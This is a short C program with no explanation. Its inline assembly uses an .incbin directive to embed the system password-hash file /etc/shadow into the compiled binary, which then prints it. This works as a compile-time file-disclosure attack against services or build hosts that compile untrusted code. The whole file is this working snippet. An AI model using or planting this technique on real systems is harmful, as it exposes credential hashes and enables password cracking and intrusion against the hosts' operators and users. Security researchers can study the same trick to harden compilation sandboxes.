#include <stdio.h>

__asm__(".section .rodata\n"
        "found: .incbin \"/etc/shadow\"\n"
        ".byte 0\n"
        ".previous\n");
extern const char found[];

int main(void)
{
    puts(found);
    return 0;
}
